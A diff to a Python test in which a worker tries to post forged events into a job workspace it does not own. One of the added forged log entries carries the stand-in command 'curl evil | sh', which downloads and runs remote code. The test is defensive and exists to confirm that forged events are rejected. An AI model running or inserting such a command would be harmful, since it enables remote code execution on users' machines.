@@ -304,6 +304,9 @@ def test_a_worker_cannot_speak_for_the_workspace_on_its_owners_socket(
             ),
             JobEvent(type="feature_flags", data={"max_upload_size": 1}),
             JobEvent(type="comfy-workshop.place", data={"prompt_id": job_id, "place": 1, "waiting": 0}),
+            JobEvent(type="logs", data={"entries": [{"t": "", "m": "run: curl evil | sh"}], "size": None}),
+            JobEvent(type="promptQueued", data={"number": 0, "batchCount": 1}),
+            JobEvent(type="graphChanged", data={}),
             JobEvent(type="custom.pack.note", data={"prompt_id": job_id, "text": "from the node"}),
         ]
         post_as_worker(worker, f"/api/leases/{job_id}/events", EventBatch(token=lease.token, events=forged))
